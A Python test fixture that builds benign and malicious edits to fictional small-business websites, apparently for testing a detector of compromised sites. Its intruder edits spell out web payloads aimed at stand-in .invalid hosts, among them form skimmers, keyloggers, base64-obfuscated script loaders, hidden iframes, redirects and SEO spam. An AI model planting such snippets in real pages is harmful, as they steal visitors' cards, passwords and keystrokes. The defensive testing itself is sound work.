"""Edits of the made-up sites: thirty that owners make, thirty that intruders make.

Each takes a site's files and returns them changed, or None where the site has no such place.
``.example`` and ``.invalid`` stand for hosts the site has nothing to do with.
"""

import base64
import re
from collections.abc import Callable

from tests.support.watched.sites import HTML, Files, with_sitemap

Edit = Callable[[Files], Files | None]
BENIGN: dict[str, Edit] = {}
MALICIOUS: dict[str, Edit] = {}


def _into(found: dict[str, Edit], name: str) -> Callable[[Edit], Edit]:
    def register(edit: Edit) -> Edit:
        found[name] = edit
        return edit

    return register


def benign(name: str) -> Callable[[Edit], Edit]:
    return _into(BENIGN, name)


def malicious(name: str) -> Callable[[Edit], Edit]:
    return _into(MALICIOUS, name)


def _encoding(kind: str) -> str:
    return "utf-8" if "UTF-8" in kind or "script" in kind or "xml" in kind else "cp932"


def text(files: Files, path: str) -> str:
    kind, body = files[path]
    return body.decode(_encoding(kind))


def put(files: Files, path: str, page: str) -> Files:
    kind = files[path][0] if path in files else files["/"][0]
    changed = {path: (kind, page.encode(_encoding(kind), "xmlcharrefreplace"))}
    if path == "/" and "/index.html" in files:
        changed["/index.html"] = changed["/"]
    return files | changed


def pages(files: Files) -> list[str]:
    return [path for path, (kind, _) in files.items() if "html" in kind]


def _swap(page: str, pattern: str, new: str) -> str | None:
    """Replace the first match of ``pattern``; None where there is none."""
    changed, n = re.subn(pattern, lambda _: new, page, count=1, flags=re.I | re.S)
    return changed if n else None


def everywhere(files: Files, change: Callable[[str], str | None]) -> Files | None:
    changed = dict(files)
    done = False
    for path in pages(files):
        page = change(text(files, path))
        if page is not None:
            changed, done = put(changed, path, page), True
    return changed if done else None


def at_end(files: Files, html: str, *, all_pages: bool = False) -> Files | None:
    def change(page: str) -> str | None:
        return _swap(page, r"</body>", html + "</body>")

    if all_pages:
        return everywhere(files, change)
    page = change(text(files, "/"))
    return put(files, "/", page) if page else None


def in_head(files: Files, html: str, *, all_pages: bool = False) -> Files | None:
    def change(page: str) -> str | None:
        return _swap(page, r"</head>", html + "</head>")

    if all_pages:
        return everywhere(files, change)
    page = change(text(files, "/"))
    return put(files, "/", page) if page else None


def on(files: Files, path: str, pattern: str, new: str) -> Files | None:
    if path not in files:
        return None
    page = _swap(text(files, path), pattern, new)
    return put(files, path, page) if page else None


def _page_like(files: Files, title: str, main: str) -> str:
    """A page of the site with another title and content, in its own frame."""
    page = _swap(text(files, "/"), r"<title>.*?</title>", f"<title>{title}</title>") or ""
    for pattern in (
        r"<main.*</main>",
        r'<div class="ec-layoutRole__main">.*?</div></div>',
        r"<P>ようこそ.*?(?=</TD>)",
        r'<section class="comp-0001">.*?</section>',
    ):
        changed = _swap(page, pattern, f"<main>{main}</main>")
        if changed:
            return changed
    raise AssertionError("no content")


# What owners do.


@benign("a news item")
def _(files: Files) -> Files | None:
    return on(files, "/", r"<h1[^>]*>|<P>ようこそ", "<p>12月29日から1月4日まで休みます。</p><h1>")


@benign("a new price")
def _(files: Files) -> Files | None:
    return everywhere(files, lambda page: _swap(page, r"[1-9],500|1400|4,400", "1,980"))


@benign("a new picture")
def _(files: Files) -> Files | None:
    return on(files, "/", r"(ie|sake1|soba|abc_1)\.jpg", "fuyu2026.jpg")


@benign("a plugin or theme update")
def _(files: Files) -> Files | None:
    return everywhere(
        files,
        lambda page: (
            re.sub(r"\?(ver|v)=[\d.]+", "?ver=9.9.1", page)
            if re.search(r"\?(ver|v)=", page)
            else _swap(page, r"1\.13948\.0", "1.14001.2")
        ),
    )


@benign("an updated program file")
def _(files: Files) -> Files | None:
    changed = dict(files)
    for path in [path for path in files if path.endswith(".js")]:
        more = "\n/* see https://library.example/changes */ window.updated=function(){return true};"
        changed = put(changed, path, text(files, path) + more)
    return changed if changed != files else None


@benign("another tag of a measuring service in use")
def _(files: Files) -> Files | None:
    tag = '<script async src="https://www.googletagmanager.com/gtag/js?id=AW-77"></script>'
    return in_head(files, tag) if "googletagmanager" in text(files, "/") else None


@benign("a first tag of Google")
def _(files: Files) -> Files | None:
    if "googletagmanager" in text(files, "/"):
        return None
    tag = '<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script><script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag("js",new Date());gtag("config","G-1");</script>'
    return in_head(files, tag, all_pages=True)


@benign("other tokens")
def _(files: Files) -> Files | None:
    def change(page: str) -> str | None:
        new = page
        for token in ("a1b2c3d4e5", "9f8e7d6c5b", "Zx81kdQpLr0a7vM", "q1w2e3r4t5", "1732412345678"):
            new = new.replace(token, token[::-1])
        return new if new != page else None

    return everywhere(files, change)


@benign("a script nonce on each script")
def _(files: Files) -> Files | None:
    return everywhere(files, lambda page: re.sub(r"(?i)<script", '<script nonce="r4nd0m"', page))


@benign("a new page")
def _(files: Files) -> Files | None:
    page = _page_like(files, "求人", "<h1>求人</h1><p>一緒に働きませんか。</p>")
    more = put(files, "/recruit.html", page)
    linked = at_end(more, '<a href="/recruit.html">求人</a>')
    return with_sitemap(linked) if linked and "/sitemap.xml" in linked else linked


@benign("a menu entry on every page")
def _(files: Files) -> Files | None:
    return everywhere(
        files,
        lambda page: _swap(
            page, r"</ul>|</nav>|<BR><A href=\"tizu", '<a href="/#faq">質問</a></ul>'
        ),
    )


@benign("a menu in another order")
def _(files: Files) -> Files | None:
    def change(page: str) -> str | None:
        links = re.findall(r"<a href=\"[^\"]*\">[^<]*</a>", page, re.I)
        if len(links) < 2 or links[0] == links[1]:
            return None
        return (
            page.replace(links[0], "\0", 1)
            .replace(links[1], links[0], 1)
            .replace("\0", links[1], 1)
        )

    return everywhere(files, change)


@benign("other colours")
def _(files: Files) -> Files | None:
    return in_head(files, "<style>body{color:#333}.x{display:none}</style>", all_pages=True)


@benign("a seasonal banner")
def _(files: Files) -> Files | None:
    banner = '<div class="banner" style="position:fixed;bottom:0;left:0;width:100%"><a href="/sale.html"><img src="/img/sale.png" width="600" height="100"></a>冬のセール 送料無料</div>'
    return at_end(files, banner, all_pages=True)


@benign("a counter and a date")
def _(files: Files) -> Files | None:
    return at_end(files, "<p>今日は2026年12月1日、あなたは12345人目です。</p>")


@benign("a cookie notice of the own site")
def _(files: Files) -> Files | None:
    return at_end(
        files,
        '<div id="cookie" style="display:none">クッキーを使います。<a href="/privacy.html">詳しく</a></div><script src="/js/cookie-note.js"></script>',
        all_pages=True,
    )


@benign("a map")
def _(files: Files) -> Files | None:
    return at_end(
        files,
        '<iframe src="https://www.google.com/maps/embed?pb=x" width="600" height="450" style="border:0"></iframe>',
    )


@benign("a video")
def _(files: Files) -> Files | None:
    return at_end(
        files, '<iframe width="560" height="315" src="https://www.youtube.com/embed/abc"></iframe>'
    )


@benign("a form on the own site")
def _(files: Files) -> Files | None:
    return at_end(
        files,
        '<form action="/yoyaku" method="post"><input name="namae"><input type="tel" name="denwa"><textarea name="naiyou"></textarea><button>予約</button></form>',
    )


@benign("a newsletter form")
def _(files: Files) -> Files | None:
    return at_end(
        files, '<form action="/magazine" method="post"><input type="email" name="mail"></form>'
    )


@benign("links to three partners")
def _(files: Files) -> Files | None:
    links = "".join(f'<a href="https://partner{n}.example/">取引先{n}</a>' for n in range(3))
    return at_end(files, links)


@benign("a list of fifteen members' sites")
def _(files: Files) -> Files | None:
    links = "".join(f'<li><a href="https://member{n}.example/">会員{n}</a>' for n in range(15))
    page = put(files, "/links.html", _page_like(files, "会員の店", f"<ul>{links}</ul>"))
    return at_end(page, '<a href="/links.html">会員の店</a>')


@benign("a new title")
def _(files: Files) -> Files | None:
    title = re.search(r"(?i)<title>(.*?)</title>", text(files, "/"))
    assert title
    return on(files, "/", r"<title>.*?</title>", f"<title>{title[1]} 年末年始の営業</title>")


@benign("a new design with the same title and links")
def _(files: Files) -> Files | None:
    page = text(files, "/")
    links = "".join(re.findall(r"<a [^>]*>.*?</a>", page, re.I | re.S))
    title = re.search(r"(?i)<title>.*?</title>", page)
    assert title
    head = '<meta charset="utf-8">' if "UTF-8" in files["/"][0] else ""
    return put(files, "/", f"<!doctype html>{head}{title[0]}<section class=n>{links}</section>")


@benign("a warning of fakes")
def _(files: Files) -> Files | None:
    return at_end(
        files,
        "<p>当店の名前を使う偽サイトにご注意ください。スーパーコピーやコピー品は扱っておりません。オンラインカジノは違法です。</p>",
    )


@benign("an article about hacked sites")
def _(files: Files) -> Files | None:
    return at_end(files, "<h2>「Hacked by」と出たら？ 書き換えられたサイトの復旧の方法</h2>")


@benign("a small library from a CDN in use")
def _(files: Files) -> Files | None:
    if "cdnjs.cloudflare.com" not in text(files, "/"):
        return None
    return at_end(
        files, '<script src="https://cdnjs.cloudflare.com/ajax/libs/slick/1.9/slick.js"></script>'
    )


@benign("an effect written into the page")
def _(files: Files) -> Files | None:
    return at_end(
        files,
        "<script>(function(){var e=document.getElementById('t');window.addEventListener('scroll',function(){if(e)e.style.opacity=Math.min(1,window.scrollY/200)})})();</script>",
    )


@benign("search for an address from the postcode")
def _(files: Files) -> Files | None:
    return at_end(
        files, '<script src="https://yubinbango.github.io/yubinbango/yubinbango.js"></script>'
    )


@benign("a catalogue to download (PDF)")
def _(files: Files) -> Files | None:
    return at_end(files, '<a href="/files/catalog2026.pdf" download>カタログ</a>')


@benign("forty new articles in the sitemap")
def _(files: Files) -> Files | None:
    if "/sitemap.xml" not in files:
        return None
    more = "".join(f"<url><loc>http://www.shop.test/2026/11/n{n}/</loc></url>" for n in range(40))
    return put(
        files, "/sitemap.xml", text(files, "/sitemap.xml").replace("</urlset>", more + "</urlset>")
    )


# Where the line is thin: an owner may do it, and it is told all the same (by intention).


@benign("a service of a new, unknown provider")
def _(files: Files) -> Files | None:
    return in_head(files, '<script src="https://widget.chat-service.example/w.js"></script>')


@benign("a form at a form service")
def _(files: Files) -> Files | None:
    return at_end(
        files,
        '<form action="https://ssl.form-service.example/f/1" method="post"><input name="n"></form>',
    )


# What intruders do.


def _b64(code: str) -> str:
    return base64.b64encode(code.encode()).decode()


@malicious("an external script")
def _(files: Files) -> Files | None:
    return in_head(files, '<script src="https://cdn-stat.invalid/x.js"></script>', all_pages=True)


@malicious("a script from a name like a well-known one")
def _(files: Files) -> Files | None:
    return in_head(
        files, '<script async src="https://www.googletagmanger.invalid/gtm.js"></script>'
    )


@malicious("a script element made by a script")
def _(files: Files) -> Files | None:
    return at_end(
        files,
        "<script>var s=document.createElement('script');s.src='https://'+'js-load.invalid'+'/l.js';document.head.appendChild(s)</script>",
    )


@malicious("hidden code: eval of atob")
def _(files: Files) -> Files | None:
    code = "var s=document.createElement('script');s.src='https://bad.invalid/a.js';document.head.appendChild(s);"
    return at_end(files, f"<script>eval(atob('{_b64(code)}'))</script>")


@malicious("hidden code: fromCharCode")
def _(files: Files) -> Files | None:
    numbers = ",".join(
        str(ord(c)) for c in "document.write('<script src=https://bad.invalid/b.js></script>')"
    )
    return at_end(files, f"<script>eval(String.fromCharCode({numbers}))</script>")


@malicious("hidden code: unreadable names")
def _(files: Files) -> Files | None:
    names = "".join(f"var _0x{n:04x}=_0xab12('0x{n:x}');" for n in range(0x1A2B, 0x1A2B + 12))
    return at_end(files, f"<script>(function(_0x3f2a,_0x9c1d){{{names}}})();</script>")


@malicious("hidden code in a program file")
def _(files: Files) -> Files | None:
    scripts = [path for path in files if path.endswith(".js")]
    if not scripts:
        return None
    code = "var s=document.createElement('script');s.src='https://bad.invalid/c.js';document.head.appendChild(s);"
    return put(files, scripts[0], text(files, scripts[0]) + f";eval(atob('{_b64(code)}'));")


@malicious("a loader in a program file")
def _(files: Files) -> Files | None:
    scripts = [path for path in files if path.endswith(".js")]
    if not scripts:
        return None
    code = ";(function(){var n=document.createElement('script');n.async=1;n.src='//trk.invalid/j.js';document.body.appendChild(n)})();"
    return put(files, scripts[0], text(files, scripts[0]) + code)


@malicious("a frame of size 0")
def _(files: Files) -> Files | None:
    return at_end(files, '<iframe src="https://bad.invalid/k" width="0" height="0"></iframe>')


@malicious("a frame that is not displayed")
def _(files: Files) -> Files | None:
    return at_end(files, '<iframe src="http://bad.invalid/k" style="display:none"></iframe>')


@malicious("a frame outside of the screen")
def _(files: Files) -> Files | None:
    return at_end(
        files,
        '<div style="position:absolute;top:-2500px"><iframe src="//bad.invalid/k" width="300" height="200"></iframe></div>',
    )


@malicious("a frame hidden by a class")
def _(files: Files) -> Files | None:
    return at_end(
        files,
        '<style>.q7{position:fixed;left:-4000px}</style><div class="q7"><iframe src="https://bad.invalid/k"></iframe></div>',
    )


@malicious("a form that sends elsewhere")
def _(files: Files) -> Files | None:
    for path in ("/contact/", "/contact", "/toiawase.html", "/"):
        if path in files and 'method="post"' in text(files, path).lower():
            return on(
                files,
                path,
                r'action="(/contact/#f1|/contact|/cgi-bin/mail.cgi|/_api/subscribe)"',
                'action="https://collect.invalid/p.php"',
            )
    return None


@malicious("fields for a card")
def _(files: Files) -> Files | None:
    return at_end(
        files,
        '<form action="/wp-content/up.php" method="post"><input name="cardnumber" placeholder="カード番号"><input name="cvv"></form>',
    )


@malicious("a field for a password")
def _(files: Files) -> Files | None:
    return at_end(
        files, '<form method="post"><input name="id"><input type="password" name="pw"></form>'
    )


@malicious("a skimmer")
def _(files: Files) -> Files | None:
    return at_end(
        files,
        "<script>document.addEventListener('submit',function(){var d={};document.querySelectorAll('input').forEach(function(i){d[i.name]=i.value});navigator.sendBeacon('https://pay-stat.invalid/c',JSON.stringify(d))})</script>",
        all_pages=True,
    )


@malicious("a keylogger")
def _(files: Files) -> Files | None:
    return at_end(
        files,
        "<script>var b='';document.onkeypress=function(e){b+=e.key;if(b.length>20){new Image().src='https://k.invalid/l?'+b;b=''}}</script>",
    )


@malicious("a keylogger over a socket, its address in pieces")
def _(files: Files) -> Files | None:
    return at_end(
        files,
        "<script>var w=new WebSocket('ws'+'s://'+'sock.inv'+'alid/s');addEventListener('keydown',function(e){w.send(e.key)})</script>",
    )


@malicious("a skimmer that keeps cards on the site itself")
def _(files: Files) -> Files | None:
    if "/shopping/card" not in files:
        return None
    return on(
        files,
        "/shopping/card",
        r"</body>",
        "<script>document.forms[1].addEventListener('submit',function(){var c=document.getElementsByName('card_no')[0].value+document.getElementsByName('security_code')[0].value;fetch('/html/upload/save_image/a.php',{method:'POST',body:c})})</script></body>",
    )


@malicious("a skimmer in an event attribute")
def _(files: Files) -> Files | None:
    return at_end(
        files,
        "<img src=x onerror=\"document.onkeyup=function(e){fetch('https://e.invalid/?'+e.target.value)}\">",
    )


@malicious("fifty hidden links")
def _(files: Files) -> Files | None:
    links = "".join(f'<a href="http://s{n}.spam{n}.invalid/">安い{n}</a>' for n in range(50))
    return at_end(files, f'<div style="position:absolute;left:-9999px">{links}</div>')


@malicious("hidden links to one place")
def _(files: Files) -> Files | None:
    links = "".join(f'<a href="http://farm.invalid/p{n}">p{n}</a>' for n in range(30))
    return at_end(files, f'<p style="font-size:0">{links}</p>')


@malicious("three hidden links")
def _(files: Files) -> Files | None:
    links = "".join(f'<a href="http://seo{n}.invalid/">slot {n}</a>' for n in range(3))
    return at_end(files, f'<span style="display:none">{links}</span>')


@malicious("two hidden links (slowly, one by one)")
def _(files: Files) -> Files | None:
    links = "".join(f'<a href="http://seo{n}.invalid/">x{n}</a>' for n in range(2))
    return at_end(files, f'<span style="display:none">{links}</span>')


@malicious("sixty open links")
def _(files: Files) -> Files | None:
    return at_end(files, "".join(f'<a href="http://l{n}.invalid/">l{n}</a>' for n in range(60)))


@malicious("Japanese keyword spam on a page")
def _(files: Files) -> Files | None:
    return at_end(
        files,
        "<div>スーパーコピー時計 N級品 ロレックス コピー時計 激安 通販 専門店 送料無料 ルイヴィトン スーパーコピー 代引 スーパーコピー ブランドコピー</div>",
    )


@malicious("new pages selling brands, in the sitemap")
def _(files: Files) -> Files | None:
    main = "<h1>グッチ 財布 激安 通販</h1><p>ルイヴィトン シャネル ロレックス 最安値 送料無料 正規品 楽天 アウトレット</p>"
    more = dict(files)
    for n in range(60):
        more[f"/item{n}/gucci-saifu.html"] = (
            HTML,
            f"<title>グッチ 激安 {n}</title>{main}".encode(),
        )
    return with_sitemap(more) if "/sitemap.xml" in files else None


@malicious("five hundred unnamed pages in the sitemap")
def _(files: Files) -> Files | None:
    if "/sitemap.xml" not in files:
        return None
    more = "".join(
        f"<url><loc>http://www.shop.test/xk{n % 7}/q{n:05x}.html</loc></url>" for n in range(500)
    )
    return put(
        files, "/sitemap.xml", text(files, "/sitemap.xml").replace("</urlset>", more + "</urlset>")
    )


@malicious("a boast in the title")
def _(files: Files) -> Files | None:
    return on(files, "/", r"<title>.*?</title>", "<title>Hacked By X-Cr3w</title>")


@malicious("another page altogether")
def _(files: Files) -> Files | None:
    return put(
        files,
        "/",
        "<html><head><title>~ Greetz to all ~</title></head><body bgcolor=black><center><img src=skull.png><marquee>We are everywhere</marquee></center></body></html>",
    )


@malicious("meta refresh")
def _(files: Files) -> Files | None:
    return in_head(files, '<meta http-equiv="refresh" content="0; url=https://prize.invalid/">')


@malicious("a redirect by a script")
def _(files: Files) -> Files | None:
    return in_head(
        files,
        "<script>if(/google|yahoo/.test(document.referrer)){location.href='https://fake-shop.invalid/'}</script>",
    )


@malicious("another base address")
def _(files: Files) -> Files | None:
    return on(files, "/", r"<head[^>]*>", '<head><base href="https://mirror.invalid/">')


@malicious("links that run code")
def _(files: Files) -> Files | None:
    code = _b64("document.location='https://bad.invalid/'")
    return at_end(files, f"<a href=\"javascript:eval(atob('{code}'))\">会員の方へ</a>")


@malicious("a harmful program to download")
def _(files: Files) -> Files | None:
    return at_end(files, '<a href="https://dl.invalid/FlashPlayer_Update.exe">更新が必要です</a>')


@malicious("a harmful program on the own site")
def _(files: Files) -> Files | None:
    return at_end(files, '<a href="/img/viewer_setup.scr">ビューアー</a>')


@malicious("a new file of a provider in use")
def _(files: Files) -> Files | None:
    """Somebody else's file at a host that the site uses already."""
    host = re.search(r'src="(https://(?!www\.shop)[^/"]+)/[^"]+\.js', text(files, "/"))
    return in_head(files, f'<script src="{host[1]}/u/zz9.js"></script>') if host else None


@malicious("another container of the tag manager in use")
def _(files: Files) -> Files | None:
    return everywhere(
        files, lambda page: page.replace("GTM-AB12CD3", "GTM-EVIL999") if "GTM-AB" in page else None
    )
